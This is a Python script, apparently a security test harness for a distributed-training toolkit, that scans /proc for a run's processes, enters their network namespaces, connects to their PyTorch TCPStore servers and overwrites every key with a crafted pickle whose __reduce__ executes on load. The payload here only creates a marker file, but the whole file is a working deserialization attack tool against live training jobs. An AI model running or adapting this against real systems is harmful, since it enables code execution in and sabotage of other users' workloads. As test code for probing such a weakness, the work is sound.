"""A neighbour who knows the ports of a run: writes pickles over every key of every store that answers.

``python neighbour.py RUN_FOLDER MARKER``: it is ready when it says so, and works until its standard input closes; then
it prints, as JSON, the stores that answered and the keys that it wrote.  A pickle that is loaded makes the file MARKER.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import select
import sys
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import torch.distributed as dist

from ncclkit.agent.run import processes

LISTENING = "0A"
KNOWN = ["torch.rendezvous.none", "torch.rendezvous.ncclkit", "none/torchelastic/role_info/0", "rdzv"]
"""Keys that are tried where a store does not tell its own."""


class Payload:
    """Makes a file where it is unpickled."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return open, (self.marker, "w")


def members(folder: str) -> list[str]:
    """Pids of the processes of a run, but for Slurm's own, which answer a stranger by ending the job."""
    wanted, found = f"NCCLKIT_RUN={folder}".encode(), []
    for place in Path("/proc").glob("[0-9]*"):
        try:
            mine = wanted in (place / "environ").read_bytes().split(b"\0")
            if mine and (place / "comm").read_text() != "srun\n":
                found.append(place.name)
        except OSError:
            continue  # ended meanwhile
    return found


def listening(pid: str) -> Iterator[tuple[str, int]]:
    """(address in hex, port) of each socket that a process listens on."""
    try:
        own = {os.readlink(link) for link in Path(f"/proc/{pid}/fd").iterdir() if link.is_symlink()}
        lines = [line for name in ("tcp", "tcp6") for line in Path(f"/proc/{pid}/net/{name}").read_text().splitlines()]
    except OSError:
        return  # ended meanwhile
    for _, local, _, state, *_, inode in (line.split()[:10] for line in lines if ":" in line):
        if state == LISTENING and f"socket:[{inode}]" in own:
            address, _, port = local.rpartition(":")
            yield address, int(port, 16)


def attack(pid: str, port: int, payloads: list[bytes]) -> list[str]:
    """Overwrite everything in the store at a port of a process's network; the keys, none where no store answers."""
    with open(f"/proc/{pid}/ns/net") as network:
        if os.fstat(network.fileno()).st_ino != os.stat("/proc/thread-self/ns/net").st_ino:
            processes.call("setns", network.fileno(), 0)
    store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=2))
    store.set_timeout(timedelta(seconds=2))
    keys = [*KNOWN, *(store.list_keys() if hasattr(store, "list_keys") else ())]
    for key in keys:
        for payload in payloads:
            store.set(key, payload)
    return keys


def main(folder: str, marker: str) -> None:
    raw = pickle.dumps(Payload(marker))
    payloads, found, keys = [raw, base64.b64encode(raw)], set(), set()
    print("ready", flush=True)
    while not select.select([sys.stdin], [], [], 0.2)[0]:
        for pid in members(folder):
            for address, port in set(listening(pid)):
                try:
                    keys.update(attack(pid, port, payloads))
                    found.add(address)
                except (RuntimeError, OSError):
                    continue  # no store, or it has ended
    print(json.dumps({"stores": sorted(found), "keys": sorted(keys - set(KNOWN))}), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
